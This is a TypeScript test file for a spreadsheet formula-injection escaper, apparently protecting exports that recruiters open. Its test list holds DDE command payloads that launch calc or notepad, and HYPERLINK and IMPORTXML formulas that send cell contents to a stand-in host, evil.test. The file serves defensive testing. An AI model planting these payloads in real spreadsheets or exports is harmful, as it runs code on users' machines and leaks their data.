// Escaping cells against formulas, and undoing it.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { escapeFormula, isFormula, unescapeFormula } from './formula.ts';

/** Attacks that try to run code on a recruiter's computer, and harmless text that looks similar. */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+49 170 1234567',
  '-2+3+cmd|" /C notepad"!A1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tAda',
  '   =HYPERLINK("http://evil.test?leak="&A1,"Click")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a")',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\u0000=1+1',
  '\uFEFF=1+1',
];

test.each(formulas)('%j is escaped, and can be unescaped', (text) => {
  expect(isFormula(text)).toBe(true);
  expect(escapeFormula(text)).toBe(`'${text}`);
  expect(unescapeFormula(escapeFormula(text))).toBe(text);
});

test.each(['Ada', '2+2', 'a=b', 'me@example.test', "'quoted'", '', 'Ünal', 'سارة', '1-2', '"', "O'Neil"])(
  '%j is unchanged',
  (text) => {
    expect(escapeFormula(text)).toBe(text);
    expect(unescapeFormula(text)).toBe(text);
  },
);

test('unescaping restores any text, and no escaped text starts like a formula', () => {
  const start = fc.constantFrom('', '=', '+', '-', '@', "'=", "''+", '\t', '\u200B=', '＝');
  fc.assert(
    fc.property(start, fc.string({ unit: 'binary', maxLength: 8 }), (first, rest) => {
      const text = first + rest;
      expect(escapeFormula(text)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
      expect(unescapeFormula(escapeFormula(text))).toBe(text);
    }),
  );
});
